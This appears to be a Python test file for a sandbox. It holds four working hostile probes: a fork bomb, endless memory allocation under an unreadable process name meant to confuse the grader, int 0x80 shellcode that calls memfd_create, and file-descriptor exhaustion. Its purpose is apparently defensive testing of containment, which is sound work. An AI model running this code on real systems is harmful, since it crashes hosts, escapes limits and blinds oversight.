"""Taking all there is: memory, processes, descriptors."""
# ruff: noqa: F821, F841, B018

from hostile.attack import ENDED, FULL, LARGE, LATE, cell


@cell(2, f"{FULL}|{ENDED}|{LATE}|{LARGE}")
def forks_without_end():
    """Processes until there is no room for more."""
    import os
    import time

    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1000)


@cell(2, LARGE)
def takes_memory_under_a_name_that_is_no_text():
    """Bytes without end, under a name in /proc that no text can hold, where the grader reads how many they are.

    The calls are so long that on a busy machine the time limit of a cell does not come first.
    """
    import ctypes

    ctypes.CDLL(None).prctl(15, b"\xff", 0, 0, 0)
    taken = []
    while True:
        taken.append(b"x" * 2**31)


@cell()
def takes_memory_by_the_calls_of_another_machine():
    """A file without a name by int 0x80, where calls have the numbers of 32-bit machines."""
    import ctypes
    import os
    import platform

    if platform.machine() == "x86_64" and not os.fork():
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        place = libc.mmap(None, 4096, 7, 0x62, -1, 0)  # below 4 GB, may be run
        name = (place + 2048).to_bytes(4, "little")
        code = b"\x53\xb8\x64\x01\x00\x00\xbb" + name + b"\x31\xc9\xcd\x80\x5b\xc3"  # memfd_create(name, 0)
        ctypes.memmove(place, code, len(code))
        made = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
        os._exit(0 if made >= 0 else 1)  # a machine without these calls ends it by a signal
    elif platform.machine() == "x86_64":
        print("BREACH: int 0x80" * (os.wait()[1] == 0))


@cell(2, ENDED)
def keeps_descriptors():
    """Descriptors, kept: no pipe can be made for the next check."""
    import os

    try:
        while True:
            os.open("/dev/null", 0)
    except OSError:
        pass
